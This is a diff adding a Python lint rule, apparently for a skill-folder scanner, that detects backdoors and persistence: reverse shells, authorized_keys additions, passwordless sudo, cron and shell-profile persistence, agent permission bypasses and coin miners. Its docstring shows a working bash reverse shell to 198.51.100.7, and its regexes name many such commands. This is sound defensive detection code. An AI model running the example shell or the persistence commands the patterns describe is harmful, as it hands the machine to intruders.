@@ -1,0 +1,66 @@
+"""A command lets somebody in, or stays after the task.
+
+## What it does
+Looks in runnable blocks, scripts, workflows and commands for reverse shells, keys added to `authorized_keys`, rights without a
+password, jobs and start files that fetch or decode what they run, settings of agents that are rewritten to allow everything or
+to run a hook, and programs that mine coins.
+
+## Why is this bad
+It gives others the machine, and outlives the skill.
+
+## Example
+
+```sh
+bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
+```
+
+## Use instead
+Nothing: no task needs this. What must run regularly is set up by the user.
+"""
+
+import re
+from collections.abc import Iterator
+
+from skillkit.mentions import is_mentioned
+from skillkit.model.finding import Violation
+from skillkit.model.folder import SkillFolder
+from skillkit.passages import Look
+from skillkit.passages import hits
+from skillkit.rules import rule
+
+START_FILE = (
+    r"(?:~|\$HOME|\$\{HOME\}|/root|/home/\w+)?/?\.(?:bashrc|zshrc|profile|bash_profile|zprofile|zshenv|bash_login)"
+)
+FETCHES = r"(?:curl|wget|base64|/dev/tcp|nc\s|eval|python\S* -c|nohup)"
+OPENS = re.compile(
+    r"(?:ba|z|k)?sh\s+-i\s*[^\n]{0,20}>&\s*/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/\$?[\w.{}]+/\$?[\w{}]+[^\n]{0,30}(?:0>&1|<&|0<&)|\bexec\s+\d+<>\s*/dev/tcp/"
+    r"|\b(?:nc|ncat|netcat)\b[^\n|;]{0,80}\s(?:-\w*e\w*|-c|--exec|--sh-exec)\s+\S*(?:sh|cmd(?:\.exe)?|powershell\S*)\b|\bmkfifo\s[^\n]{0,120}\b(?:nc|ncat|netcat|openssl)\b|\bsocat\s[^\n]{0,80}exec:"
+    r"|\bsocket\.socket\([\s\S]{0,300}?(?:os\.dup2|pty\.spawn|subprocess\.\w+\([^\n]{0,30}[\"']/?(?:bin/)?(?:ba)?sh)|\bnew net\.Socket\(\)[\s\S]{0,300}?child_process|\bTCPSocket\.\w+\([\s\S]{0,120}?(?:exec|/bin/sh)|New-Object (?:System\.)?Net\.Sockets\.TCPClient"
+    r"|(?:>>?|tee\s+(?:-a\s+)?)\s*\S*authorized_keys\b|authorized_keys[\"'][^\n]{0,20}[\"']a[\"b']|\bssh-copy-id\b[^\n]*-i\s+(?:\./|/tmp)"
+    r"|NOPASSWD\s*:\s*ALL[^\n]*(?:>>?|tee)\s*[^\n]*sudoers|sudoers[^\n]*NOPASSWD\s*:\s*ALL|\bchmod\s+(?:u\+s|[24]7\d\d|\+s)\s+\S*(?:sh|python\S*)\b|\buseradd\b[^\n]*\s-o\b[^\n]*-u\s*0"
+    rf"|(?:\|\s*crontab\s+-|crontab\s+-\s|>>?\s*/etc/cron\S*|/var/spool/cron)[^\n]{{0,40}}(?<=)|\becho\s[^\n]*{FETCHES}[^\n]*>>?\s*{START_FILE}|\becho\s[^\n]*{FETCHES}[^\n]*\|\s*crontab"
+    rf"|>>?\s*(?:[^\n]{{0,40}}\.git/hooks/\S+)(?=[\s\S]{{0,200}}{FETCHES})|cat\s*>>?\s*{START_FILE}\s*<<[\s\S]{{0,300}}?{FETCHES}"
+    r"|(?:>>?|tee\s+(?:-a\s+)?)\s*[\"']?(?:~|\$HOME|\$\{HOME\})/\.(?:claude|codex|cursor|gemini)/(?:\S*CLAUDE\.md|\S*AGENTS\.md)"
+    r"|\"allow\"\s*:\s*\[[^\]]*\"(?:Bash\(\*\)|Bash|\*)\"[^\n]*>>?\s*\S*settings"
+    r"|[\"']?defaultMode[\"']?\s*:\s*[\"']bypassPermissions|\b(?:xmrig|minerd|cpuminer|nbminer|t-rex\s+-a|ethminer)\b[^\n]*|stratum\+(?:tcp|ssl)://|\bsetenforce\s+0\b|\bufw\s+disable\b|\bspctl\s+--master-disable|Set-MpPreference\s+-Disable\w+\s+\$true"
+    r"|(?:cat|cp|echo|tee)[^\n]*(?:/etc/systemd/system|~/\.config/systemd/user|LaunchAgents|LaunchDaemons)/\S+(?=[\s\S]{0,400}(?:curl|wget|base64|/dev/tcp|/tmp/))",
+    re.IGNORECASE,
+)
+TOLD = re.compile(
+    r"\b(?:add|append|write|put|insert|copy|save|persist|store)\b[^.\n]{0,100}\b(?:to|into|in)\b[^.\n]{0,30}?(?:~/|\$HOME/)?\.?(?:ssh/)?authorized_keys\b"
+    r"|\b(?:add|append|write|put|insert|copy|save|persist|store)\b[^.\n]{0,60}\b(?:these|this|the following|that)\b[^.\n]{0,40}\b(?:to|into|in)\b[^.\n]{0,40}?(?:memory|CLAUDE\.md|AGENTS\.md|\.cursorrules|copilot-instructions\.md)\b[^.\n]{0,80}\b(?:every|all|future|always|permanent\w*|persist\w*)\b",
+    re.IGNORECASE,
+)
+LOOK = Look(
+    "tcp udp nc ncat netcat mkfifo socat socket dup2 pty tcpsocket tcpclient authorized nopasswd chmod useradd crontab cron bashrc zshrc profile zprofile "
+    "zshenv hooks claude codex cursor gemini opencode bypasspermissions xmrig minerd cpuminer nbminer ethminer stratum setenforce ufw spctl mppreference "
+    "systemd launchagents launchdaemons memory agents cursorrules copilot"
+)
+
+
+@rule("SK812", "backdoor", "safety", "error")
+def check(folder: SkillFolder) -> Iterator[Violation]:
+    """Yields each such command and sentence."""
+    for hit in (*hits(folder, LOOK, OPENS, "run", "inline", "comment"), *hits(folder, LOOK, TOLD, "prose", "comment")):
+        if not is_mentioned(hit):
+            yield Violation(location=hit.location, message="this opens the machine to others, or stays after the task")
